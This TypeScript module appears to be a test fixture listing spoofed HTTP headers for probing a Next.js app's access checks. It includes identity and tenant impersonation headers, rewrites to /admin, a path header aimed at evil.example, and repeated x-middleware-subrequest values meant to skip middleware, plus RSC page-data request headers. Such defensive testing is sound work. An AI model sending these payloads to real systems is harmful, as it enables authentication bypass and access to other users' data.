/** Five times the same segment: from Next 15.2.3 on that many mean a loop, before it they skipped everything. */
const fiveTimes = (segment: string) => Array.from({ length: 5 }, () => segment).join(':');

const stateTree = encodeURIComponent(
  JSON.stringify(['', { children: ['w', { children: ['__PAGE__', {}] }] }, null, 'refetch']),
);

/** What somebody may write into a request to pass for another person, or to get around the server's own checks. */
export function spoofedHeaders(victim: {
  userId: string;
  tenantId: string;
  workspaceId: string;
}): Record<string, string>[] {
  const { userId, tenantId, workspaceId } = victim;
  return [
    { 'x-user-id': userId },
    { 'x-tenant-id': tenantId },
    { 'x-workspace-id': workspaceId },
    { 'x-forwarded-user': userId, 'x-remote-user': userId, 'remote-user': userId },
    { 'x-original-url': `/w/${workspaceId}`, 'x-rewrite-url': `/w/${workspaceId}` },
    { 'x-geko-path': '//evil.example', 'x-nonce': 'spoofed' },
    { 'x-middleware-subrequest': 'pages/_middleware' },
    { 'x-middleware-subrequest': 'middleware' },
    { 'x-middleware-subrequest': 'src/middleware' },
    { 'x-middleware-subrequest': 'src/proxy' },
    { 'x-middleware-subrequest': fiveTimes('middleware') },
    { 'x-middleware-subrequest': fiveTimes('src/middleware') },
    { 'x-middleware-subrequest': fiveTimes('proxy') },
    { 'x-middleware-subrequest': fiveTimes('src/proxy') },
    { 'x-middleware-subrequest-id': '0000000000000000' },
    { 'x-middleware-next': '1', 'x-middleware-rewrite': '/admin' },
    { 'x-middleware-override-headers': 'x-user-id', 'x-middleware-request-x-user-id': userId },
    { 'x-matched-path': `/w/${workspaceId}`, 'x-now-route-matches': `workspace=${workspaceId}` },
    { 'x-invoke-path': `/w/${workspaceId}`, 'x-invoke-status': '200', 'x-nextjs-data': '1' },
  ];
}

/** How Next's own client asks for the data of a page instead of its HTML. */
export const pageDataHeaders: Record<string, string>[] = [
  { rsc: '1' },
  { rsc: '1', 'next-router-prefetch': '1' },
  { rsc: '1', 'next-router-prefetch': '2' },
  { rsc: '1', 'next-router-segment-prefetch': '/_tree' },
  { rsc: '1', 'next-router-segment-prefetch': '/_full' },
  { rsc: '1', 'next-router-state-tree': stateTree },
  { rsc: '1', 'next-router-state-tree': stateTree, 'next-url': '/admin' },
  { 'next-router-state-tree': stateTree },
  { 'next-hmr-refresh': '1', rsc: '1' },
  { 'x-middleware-prefetch': '1' },
];
